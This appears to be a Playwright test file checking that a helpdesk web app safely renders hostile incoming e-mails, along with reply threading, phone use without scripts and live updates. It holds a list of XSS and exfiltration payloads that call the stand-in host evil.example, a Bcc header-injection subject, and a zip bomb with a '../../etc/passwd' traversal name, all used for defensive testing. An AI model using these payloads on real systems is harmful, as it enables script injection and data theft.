"""The desk in a real browser: hostile mails, an answer by real mail, a phone without scripts."""

import base64
import io
import time
import zipfile

import pytest
from playwright.sync_api import Browser, Page

from inbox.accounts.models import User
from inbox.handbook.services import load
from inbox.intake.tests.test_mail import PRESET, arrive
from inbox.operations import draining
from inbox.operations.connecting import connect
from inbox.tickets.models import Message, Ticket
from rig import chromium
from rig.smtp import SmtpSink
from rig.worker import Site

pytestmark = [pytest.mark.browser, pytest.mark.service]
PASSWORD = "a long enough password"
ATTACK = "window.pwned=1;fetch('http://evil.example/x')"
HOSTILE_HTML = (
    f"<script>{ATTACK}</script>",
    f'<img src=x onerror="{ATTACK}">',
    f'<svg onload="{ATTACK}"><script>{ATTACK}</script></svg>',
    '<img src="http://evil.example/pixel.gif" width=1 height=1>',
    '<img srcset="http://evil.example/2x.png 2x" src="//evil.example/1.png">',
    '<link rel=stylesheet href="http://evil.example/x.css"><style>@import url(http://evil.example/y.css)</style>',
    '<div style="background:url(http://evil.example/bg.png)">styled</div>',
    '<div hx-get="/tickets/1/trash/" hx-trigger="load" hx-on:load="' + ATTACK + '">htmx</div>',
    '<button hx-post="/tickets/1/close/" formaction="http://evil.example">button</button>',
    '<form action="http://evil.example/steal"><input name=password autofocus></form>',
    '<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/"><a href="x">relative</a>',
    f'<a href="javascript:{ATTACK}">click</a><a href="data:text/html,<script>{ATTACK}</script>">d</a>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ATTACK}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ATTACK}>'>",
    "<video src=http://evil.example/v autoplay><source src=http://evil.example/w></video>",
    '<p id="composer" name="csrfmiddlewaretoken" class="rail">clobber</p>',
)


@pytest.fixture
def desk(process_env: dict[str, str]) -> User:
    """The handbook, and Ana with a password."""
    load(PRESET.read_text())
    ana = User.objects.get(username="ana")
    ana.set_password(PASSWORD)
    ana.save()
    return ana


def sign_in(tab: Page) -> None:
    """As a person does."""
    tab.goto("/login/")
    tab.get_by_label("Username or e-mail").fill("ana")
    tab.get_by_label("Password").fill(PASSWORD)
    tab.get_by_role("button", name="Sign in").click()
    tab.locator("#queue").wait_for()


def html_mail(n: int, html: str, *, subject: str = "") -> bytes:
    """A mail with HTML alone."""
    return (
        f"From: <script>{ATTACK}</script> <w{n}@evil.example>\r\nTo: support@example.com\r\n"
        f"Subject: {subject or f'<img src=x onerror={ATTACK}> {n}'}\r\nMessage-ID: <h{n}@evil.example>\r\n"
        "Date: Wed, 18 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello</p>{html}<p>Bye</p>\r\n"
    ).encode()


def zip_bomb() -> bytes:
    """Ten megabytes of nothing in ten kilobytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/passwd", b"\0" * 10_000_000)
    return made.getvalue()


def with_file(n: int, filename: str, content: bytes, kind: str) -> bytes:
    """A mail with one file."""
    coded = base64.encodebytes(content).decode().replace("\n", "\r\n")
    return (
        f"From: w{n}@evil.example\r\nTo: support@example.com\r\nSubject: File {n}\r\n"
        f"Message-ID: <f{n}@evil.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
        f"See it.\r\n--b\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
        f'Content-Disposition: attachment; filename="{filename}"\r\n\r\n{coded}\r\n--b--\r\n'
    ).encode()


def nested(depth: int) -> bytes:
    """Parts in parts."""
    head = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth)
    )
    start = "From: deep@evil.example\r\nTo: support@example.com\r\nSubject: Deep\r\n"
    return f"{start}Message-ID: <deep@evil.example>\r\n{head}\r\ntext\r\n".encode()


HOSTILE_MAILS = (
    *(html_mail(n, html) for n, html in enumerate(HOSTILE_HTML)),
    html_mail(100, "", subject="=?utf-8?q?Hi=0D=0ABcc:_victim@example.org=0D=0A?= injected"),
    html_mail(101, "", subject="x" * 50_000),
    html_mail(102, "<div>" * 20_000),
    b"X-Bomb: " + b"a" * 50_000 + b"\r\n" + html_mail(103, ""),
    nested(1000),
    with_file(104, "../../etc/passwd.zip", zip_bomb(), "application/zip"),
    with_file(105, "x.html", f"<script>{ATTACK}</script>".encode(), "text/plain"),
    with_file(106, "x.svg", f"<svg onload='{ATTACK}'/>".encode(), "image/svg+xml"),
    with_file(107, "<img src=x onerror=alert(1)>.png", b"\x89PNG\r\n", "image/png"),
)


def test_hostile_mails_execute_nothing_and_fetch_nothing(
    desk: User, live_site: Site, browser_process: Browser
) -> None:
    for raw in HOSTILE_MAILS:
        arrive(raw)
    assert Ticket.objects.count() == len(HOSTILE_MAILS)
    with chromium.page(browser_process, base_url=live_site.url) as (tab, watch):
        watch.allow("Blocked script execution")  # the original in its sandbox, as it should be
        watch.allow("Content Security Policy")  # the same: its remote pictures are refused
        tab.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        sign_in(tab)
        for path in ("/queue/", "/people/", "/search/?q=hello"):
            tab.goto(path)
            assert tab.evaluate("window.pwned") is None
        for number in Ticket.objects.values_list("number", flat=True):
            tab.goto(f"/tickets/{number}/")
            for summary in tab.locator(".thread summary").all():
                summary.click()
            tab.wait_for_load_state("networkidle")
            assert tab.evaluate("window.pwned") is None
            assert (
                tab.locator(".msg__body [hx-get], .msg__body [style], .msg__body form").count() == 0
            )
            assert tab.url == f"{live_site.url}/tickets/{number}/"
    assert not Ticket.objects.exclude(status="open").filter(pk=1).exists()


def test_files_of_strangers_are_downloaded_never_shown(
    desk: User, live_site: Site, browser_process: Browser
) -> None:
    arrive(with_file(1, "page.html", f"<script>{ATTACK}</script>".encode(), "text/html"))
    arrive(with_file(2, "image.svg", f"<svg onload='{ATTACK}'/>".encode(), "image/svg+xml"))
    with chromium.page(browser_process, base_url=live_site.url) as (tab, _):
        sign_in(tab)
        for message in Message.objects.all():
            tab.goto(f"/tickets/{message.ticket_id}/")
            with tab.expect_download() as download:
                tab.locator(".msg__foot a.chip").first.click()
            assert download.value.suggested_filename
            assert tab.evaluate("window.pwned") is None


def test_answer_in_the_browser_leaves_as_a_mail_that_threads(
    desk: User, live_site: Site, smtp_sink: SmtpSink, browser_process: Browser
) -> None:
    """S68, L1: the words on the screen are the words in the mail."""
    connect("email", "support", {"address": "support@example.com", "smtp_url": smtp_sink.url()})
    arrive(html_mail(1, "", subject="How do I reset the slot?"))
    with chromium.page(browser_process, base_url=live_site.url) as (tab, _):
        sign_in(tab)
        tab.get_by_role("link", name="How do I reset the slot?").click()
        tab.get_by_placeholder("Markdown works").fill("Run **reset**, then tell me.")
        tab.get_by_role("button", name="Send and wait").click()
        tab.get_by_text("then tell me").first.wait_for()
    assert draining.drain(timeout_seconds=60)[1]
    (mail,) = smtp_sink.letters
    message = mail.message
    assert message["In-Reply-To"] == "<h1@evil.example>"
    assert message["Subject"] == "Re: How do I reset the slot?"
    html = message.get_body(("html",))
    assert html is not None
    assert "<strong>reset</strong>" in html.get_content()
    ticket = Ticket.objects.get()
    assert (ticket.status, ticket.waiting_on) == ("in_progress", "them")


def test_desk_works_on_a_phone_without_scripts(
    desk: User, live_site: Site, browser_process: Browser
) -> None:
    arrive(html_mail(1, "", subject="A question from the train"))
    with chromium.page(
        browser_process, size=chromium.PHONE, javascript=False, base_url=live_site.url
    ) as (tab, _):
        sign_in(tab)
        tab.get_by_role("link", name="A question from the train").click()
        tab.locator("textarea[name=body]").fill("On my way.")
        tab.get_by_role("button", name="Send and wait").click()
        tab.get_by_text("On my way.").first.wait_for()
        width = tab.evaluate("document.documentElement.scrollWidth")
    assert width <= 390


def test_new_ticket_appears_without_reload(
    desk: User, live_site: Site, celery_worker: object, browser_process: Browser
) -> None:
    with chromium.page(browser_process, base_url=live_site.url) as (tab, _):
        sign_in(tab)
        tab.get_by_text("Plug in your first channel").wait_for()
        begun = time.monotonic()
        arrive(html_mail(1, "", subject="Just now"))
        tab.get_by_text("Just now").first.wait_for()
        assert time.monotonic() - begun < 10
